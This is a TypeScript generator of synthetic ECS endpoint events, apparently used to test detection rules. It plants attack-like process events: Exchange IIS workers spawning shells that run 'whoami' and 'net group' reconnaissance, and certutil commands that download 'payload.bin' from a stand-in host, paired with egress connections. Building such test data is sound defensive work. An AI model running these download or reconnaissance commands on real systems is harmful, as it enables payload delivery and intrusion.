import {
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { dirname } from 'node:path'

/** Bump when the generated data changes, so cached files are rebuilt. */
export const GENERATOR_VERSION = 4

/** What a generated file holds, stored next to it. */
export interface GeneratedMeta {
  readonly version: number
  readonly seed: number
  readonly events: number
  readonly bytes: number
  readonly exchangePositives: number
  readonly exchangeNearMisses: number
  readonly sequencePairs: number
}

const START_MS = Date.UTC(2026, 10, 1, 8, 0, 0)
const HOSTS = 400
const USERS = 300

/** A small seeded PRNG (xorshift32), so every run writes the same bytes. */
class Random {
  #state: number

  constructor(seed: number) {
    this.#state = seed >>> 0 || 0x9e3779b9
  }

  next(): number {
    let x = this.#state
    x ^= x << 13
    x ^= x >>> 17
    x ^= x << 5
    this.#state = x >>> 0

    return this.#state / 0x1_0000_0000
  }

  int(max: number): number {
    return Math.floor(this.next() * max)
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T
  }

  hex(length: number): string {
    let out = ''
    while (out.length < length) out += this.int(0x1_0000_0000).toString(16).padStart(8, '0')

    return out.slice(0, length)
  }
}

interface Host {
  readonly id: string
  readonly name: string
  readonly ip: string
  readonly isWindows: boolean
}

interface User {
  readonly name: string
  readonly id: string
  readonly domain: string
}

interface Program {
  readonly name: string
  readonly dir: string
  readonly original: string
  readonly args: readonly string[]
}

const WINDOWS_PROGRAMS: readonly Program[] = [
  {
    name: 'svchost.exe',
    dir: 'C:\\Windows\\System32',
    original: 'svchost.exe',
    args: ['-k', 'netsvcs', '-p'],
  },
  {
    name: 'chrome.exe',
    dir: 'C:\\Program Files\\Google\\Chrome\\Application',
    original: 'chrome.exe',
    args: ['--type=renderer', '--lang=en-US'],
  },
  {
    name: 'msedge.exe',
    dir: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    original: 'msedge.exe',
    args: ['--type=utility', '--no-sandbox'],
  },
  {
    name: 'conhost.exe',
    dir: 'C:\\Windows\\System32',
    original: 'CONHOST.EXE',
    args: ['0xffffffff', '-ForceV1'],
  },
  {
    name: 'cmd.exe',
    dir: 'C:\\Windows\\System32',
    original: 'Cmd.Exe',
    args: ['/c', 'echo', 'ok'],
  },
  {
    name: 'powershell.exe',
    dir: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    original: 'PowerShell.EXE',
    args: ['-NoProfile', '-File', 'C:\\scripts\\inventory.ps1'],
  },
  {
    name: 'taskhostw.exe',
    dir: 'C:\\Windows\\System32',
    original: 'taskhostw.exe',
    args: ['NGCKeyPregen'],
  },
  {
    name: 'OneDrive.exe',
    dir: 'C:\\Users\\Public\\AppData\\Local\\Microsoft\\OneDrive',
    original: 'OneDrive.exe',
    args: ['/background'],
  },
  {
    name: 'notepad.exe',
    dir: 'C:\\Windows\\System32',
    original: 'NOTEPAD.EXE',
    args: ['C:\\temp\\notes.txt'],
  },
  {
    name: 'certutil.exe',
    dir: 'C:\\Windows\\System32',
    original: 'CertUtil.exe',
    args: ['-verify', 'C:\\certs\\root.cer'],
  },
  {
    name: 'rundll32.exe',
    dir: 'C:\\Windows\\System32',
    original: 'RUNDLL32.EXE',
    args: ['shell32.dll,Control_RunDLL'],
  },
  {
    name: 'w3wp.exe',
    dir: 'C:\\Windows\\System32\\inetsrv',
    original: 'w3wp.exe',
    args: ['-ap', 'DefaultAppPool', '-v', 'v4.0'],
  },
]

const LINUX_PROGRAMS: readonly Program[] = [
  { name: 'bash', dir: '/usr/bin', original: 'bash', args: ['-c', 'uptime'] },
  { name: 'sshd', dir: '/usr/sbin', original: 'sshd', args: ['-D'] },
  {
    name: 'python3',
    dir: '/usr/bin',
    original: 'python3',
    args: ['/opt/app/worker.py', '--queue', 'default'],
  },
  {
    name: 'curl',
    dir: '/usr/bin',
    original: 'curl',
    args: ['-s', 'https://updates.example.com/manifest'],
  },
  { name: 'systemd', dir: '/usr/lib/systemd', original: 'systemd', args: ['--user'] },
]

const PARENTS_WIN = ['explorer.exe', 'services.exe', 'svchost.exe', 'cmd.exe', 'powershell.exe']
const EXCHANGE_POOLS = [
  'MSExchangeOWAAppPool',
  'MSExchangeECPAppPool',
  'MSExchangeAutodiscoverAppPool',
]
const SHELLS = [
  { name: 'cmd.exe', original: 'Cmd.Exe', dir: 'C:\\Windows\\System32' },
  {
    name: 'powershell.exe',
    original: 'PowerShell.EXE',
    dir: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
  },
  { name: 'pwsh.exe', original: 'pwsh.dll', dir: 'C:\\Program Files\\PowerShell\\7' },
  {
    name: 'POWERSHELL_ISE.EXE',
    original: 'powershell_ise.EXE',
    dir: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
  },
]

type Json = Record<string, unknown>

/** Writes one event per line; 60% process, 25% network, 15% file, with planted cases. */
class EventFactory {
  readonly #random: Random
  readonly #hosts: Host[]
  readonly #users: User[]
  readonly #scheduled = new Map<number, Json>()
  #time = START_MS
  #serial = 0
  exchangePositives = 0
  exchangeNearMisses = 0
  sequencePairs = 0

  constructor(seed: number) {
    this.#random = new Random(seed)
    this.#hosts = Array.from({ length: HOSTS }, (_, i) => this.#host(i))
    this.#users = Array.from({ length: USERS }, (_, i) => this.#user(i))
  }

  event(index: number): Json {
    this.#time += this.#random.int(3) + (this.#random.next() < 0.5 ? 0 : 1)
    this.#serial++
    const scheduled = this.#scheduled.get(index)
    if (scheduled !== undefined) {
      this.#scheduled.delete(index)

      return this.#stamp(scheduled)
    }

    const roll = this.#random.next()
    if (roll < 0.6) return this.#stamp(this.#processEvent(index))
    if (roll < 0.85) return this.#stamp(this.#networkEvent(this.#random.pick(this.#hosts), null))

    return this.#stamp(this.#fileEvent())
  }

  #stamp(event: Json): Json {
    const rest: Json = { ...event }
    delete rest['@timestamp']
    delete rest.event
    const withSequence = { ...(event.event as Json), sequence: this.#serial }

    return { '@timestamp': new Date(this.#time).toISOString(), event: withSequence, ...rest }
  }

  #host(i: number): Host {
    const isWindows = i % 5 !== 0
    const name = isWindows
      ? `WIN-${this.#random.hex(6).toUpperCase()}`
      : `lnx-${this.#random.hex(6)}`

    return {
      id: this.#random.hex(32),
      name,
      ip: `10.${i >> 8}.${i & 255}.${10 + this.#random.int(200)}`,
      isWindows,
    }
  }

  #user(i: number): User {
    return { name: `user${i}`, id: `S-1-5-21-${this.#random.int(1e9)}-${1000 + i}`, domain: 'CORP' }
  }

  #processEvent(index: number): Json {
    const host = this.#random.pick(this.#hosts)
    const planted = this.#random.next()
    if (host.isWindows && planted < 0.001) return this.#exchangePositive(host)
    if (host.isWindows && planted < 0.018) return this.#exchangeNearMiss(host)
    if (host.isWindows && planted < 0.0195) return this.#certutilDownload(host, index, true)
    if (host.isWindows && planted < 0.0205) return this.#certutilDownload(host, index, false)

    const program = this.#random.pick(host.isWindows ? WINDOWS_PROGRAMS : LINUX_PROGRAMS)
    const parentName = host.isWindows ? this.#random.pick(PARENTS_WIN) : 'systemd'
    const parentArgs = parentName === 'w3wp.exe' ? ['-ap', 'DefaultAppPool'] : [parentName]

    return this.#process(
      host,
      program,
      parentName,
      parentArgs,
      this.#random.next() < 0.7 ? 'start' : 'end',
    )
  }

  #exchangePositive(host: Host): Json {
    this.exchangePositives++
    const shell = this.#random.pick(SHELLS)
    const renamed = this.#random.next() < 0.2
    const program: Program = {
      name: renamed ? 'svc_helper.exe' : shell.name,
      dir: shell.dir,
      original: shell.original,
      args: ['/c', 'whoami', '&&', 'net', 'group', '"Exchange Trusted Subsystem"'],
    }
    const parentArgs = ['-ap', this.#random.pick(EXCHANGE_POOLS), '-v', 'v4.0']

    return this.#process(
      host,
      program,
      this.#random.next() < 0.5 ? 'w3wp.exe' : 'W3WP.EXE',
      parentArgs,
      'start',
    )
  }

  #exchangeNearMiss(host: Host): Json {
    this.exchangeNearMisses++
    const shell = this.#random.pick(SHELLS)
    const variant = this.#random.int(4)
    const pool = variant === 0 ? 'DefaultAppPool' : this.#random.pick(EXCHANGE_POOLS)
    const program: Program =
      variant === 1
        ? {
            name: 'conhost.exe',
            dir: 'C:\\Windows\\System32',
            original: 'CONHOST.EXE',
            args: ['0xffffffff'],
          }
        : {
            name: shell.name,
            dir: shell.dir,
            original: shell.original,
            args: ['/c', 'iisreset', '/status'],
          }
    const type = variant === 2 ? 'end' : 'start'
    const parent = variant === 3 ? 'w3wp_helper.exe' : 'w3wp.exe'

    return this.#process(host, program, parent, ['-ap', pool], type)
  }

  #certutilDownload(host: Host, index: number, isPaired: boolean): Json {
    const program: Program = {
      name: 'certutil.exe',
      dir: 'C:\\Windows\\System32',
      original: 'CertUtil.exe',
      args: ['-urlcache', '-split', '-f', `http://198.51.100.${this.#random.int(250)}/payload.bin`],
    }
    const event = this.#process(host, program, 'cmd.exe', ['/c'], 'start')
    // a paired start gets its connection 0.1 to 5 seconds later; an unpaired one gets none, or one
    // well outside the one-minute span
    const gap = isPaired ? 50 + this.#random.int(3000) : 80_000 + this.#random.int(20_000)
    if (isPaired || this.#random.next() < 0.5) {
      const at = index + gap
      if (!this.#scheduled.has(at)) {
        this.#scheduled.set(at, this.#networkEvent(host, event.process as Json))
        if (isPaired) this.sequencePairs++
      }
    }

    return event
  }

  #process(
    host: Host,
    program: Program,
    parentName: string,
    parentArgs: readonly string[],
    type: string,
  ): Json {
    const user = this.#random.pick(this.#users)
    const sep = host.isWindows ? '\\' : '/'
    const executable = `${program.dir}${sep}${program.name}`
    const parentExe = host.isWindows
      ? `C:\\Windows\\System32\\${parentName}`
      : `/usr/lib/systemd/${parentName}`
    const args = [executable, ...program.args]

    return {
      ...this.#base(
        host,
        'process',
        [type],
        type === 'start' ? 'start' : 'end',
        'endpoint.events.process',
      ),
      process: {
        pid: 1000 + this.#random.int(60000),
        entity_id: this.#random.hex(24),
        name: program.name,
        executable,
        command_line: args.join(' '),
        args,
        args_count: args.length,
        working_directory: host.isWindows ? 'C:\\Windows\\System32' : '/',
        pe: host.isWindows
          ? {
              original_file_name: program.original,
              company: 'Microsoft Corporation',
              product: 'Microsoft Windows Operating System',
            }
          : undefined,
        hash: { md5: this.#random.hex(32), sha256: this.#random.hex(64) },
        parent: {
          pid: 500 + this.#random.int(9000),
          entity_id: this.#random.hex(24),
          name: parentName,
          executable: parentExe,
          command_line: [parentExe, ...parentArgs].join(' '),
          args: [parentExe, ...parentArgs],
        },
      },
      user: { name: user.name, id: user.id, domain: host.isWindows ? user.domain : undefined },
    }
  }

  #networkEvent(host: Host, process: Json | null): Json {
    const isCertutil = process !== null
    const name = isCertutil
      ? 'certutil.exe'
      : this.#random.pick(
          host.isWindows
            ? ['chrome.exe', 'svchost.exe', 'msedge.exe', 'OneDrive.exe', 'OneDrive.exe']
            : ['curl', 'sshd', 'python3'],
        )
    const port = isCertutil
      ? this.#random.next() < 0.5
        ? 80
        : 443
      : this.#random.pick([443, 443, 80, 53, 22, 8080, 3389])

    return {
      ...this.#base(
        host,
        'network',
        ['connection', 'start'],
        'connection_attempted',
        'endpoint.events.network',
      ),
      process: {
        pid: (process?.pid as number | undefined) ?? 1000 + this.#random.int(60000),
        name,
        entity_id: (process?.entity_id as string | undefined) ?? this.#random.hex(24),
        executable: host.isWindows ? `C:\\Windows\\System32\\${name}` : `/usr/bin/${name}`,
      },
      source: { ip: host.ip, port: 49152 + this.#random.int(16000) },
      destination: {
        ip: `${this.#random.pick([198, 203, 192, 151])}.${this.#random.int(255)}.${this.#random.int(255)}.${this.#random.int(255)}`,
        port,
      },
      network: {
        transport: port === 53 ? 'udp' : 'tcp',
        type: 'ipv4',
        direction: 'egress',
        protocol: port === 53 ? 'dns' : port === 22 ? 'ssh' : 'http',
      },
      user: { name: this.#random.pick(this.#users).name },
    }
  }

  #fileEvent(): Json {
    const host = this.#random.pick(this.#hosts)
    const type = this.#random.pick(['creation', 'change', 'deletion'])
    const name = `${this.#random.pick(['report', 'cache', 'setup', 'index', 'temp'])}_${this.#random.hex(6)}.${this.#random.pick(['tmp', 'dll', 'log', 'docx', 'json'])}`
    const directory = host.isWindows
      ? `C:\\Users\\${this.#random.pick(this.#users).name}\\AppData\\Local\\Temp`
      : '/var/tmp'
    const path = host.isWindows ? `${directory}\\${name}` : `${directory}/${name}`
    const program = this.#random.pick(host.isWindows ? WINDOWS_PROGRAMS : LINUX_PROGRAMS)

    return {
      ...this.#base(host, 'file', [type], type, 'endpoint.events.file'),
      file: {
        path,
        name,
        directory,
        extension: name.slice(name.lastIndexOf('.') + 1),
        size: this.#random.int(5_000_000),
      },
      process: {
        pid: 1000 + this.#random.int(60000),
        name: program.name,
        entity_id: this.#random.hex(24),
        executable: `${program.dir}${host.isWindows ? '\\' : '/'}${program.name}`,
      },
      user: { name: this.#random.pick(this.#users).name },
    }
  }

  #base(
    host: Host,
    category: string,
    type: readonly string[],
    action: string,
    dataset: string,
  ): Json {
    return {
      '@timestamp': '',
      agent: { type: 'endpoint', version: '8.15.0', id: host.id.slice(0, 16) },
      ecs: { version: '8.11.0' },
      event: { kind: 'event', category: [category], type, action, dataset, module: 'endpoint' },
      host: {
        id: host.id,
        name: host.name,
        hostname: host.name.toLowerCase(),
        ip: [host.ip],
        os: host.isWindows
          ? {
              type: 'windows',
              family: 'windows',
              name: 'Windows Server 2019',
              version: '1809',
              kernel: '10.0.17763',
            }
          : {
              type: 'linux',
              family: 'debian',
              name: 'Debian GNU/Linux',
              version: '12',
              kernel: '6.1.0',
            },
      },
    }
  }
}

/**
 * Writes `count` events to `path` (unless a file from this generator version is already there)
 * and returns what it holds.
 */
export function ensureEcsFile(path: string, count: number, seed = 42): GeneratedMeta {
  const metaPath = `${path}.meta.json`
  if (existsSync(path) && existsSync(metaPath)) {
    const meta = JSON.parse(readFileSync(metaPath, 'utf8')) as GeneratedMeta
    if (meta.version === GENERATOR_VERSION && meta.events === count && meta.seed === seed)
      return meta
  }

  mkdirSync(dirname(path), { recursive: true })
  const factory = new EventFactory(seed)
  const fd = openSync(path, 'w')
  let bytes = 0
  let batch: string[] = []
  for (let i = 0; i < count; i++) {
    batch.push(JSON.stringify(factory.event(i)))
    if (batch.length === 2000 || i === count - 1) {
      const text = batch.join('\n') + '\n'
      bytes += Buffer.byteLength(text)
      writeSync(fd, text)
      batch = []
    }
  }

  closeSync(fd)
  const meta: GeneratedMeta = {
    version: GENERATOR_VERSION,
    seed,
    events: count,
    bytes,
    exchangePositives: factory.exchangePositives,
    exchangeNearMisses: factory.exchangeNearMisses,
    sequencePairs: factory.sequencePairs,
  }
  writeFileSync(metaPath, JSON.stringify(meta, null, 2))

  return meta
}
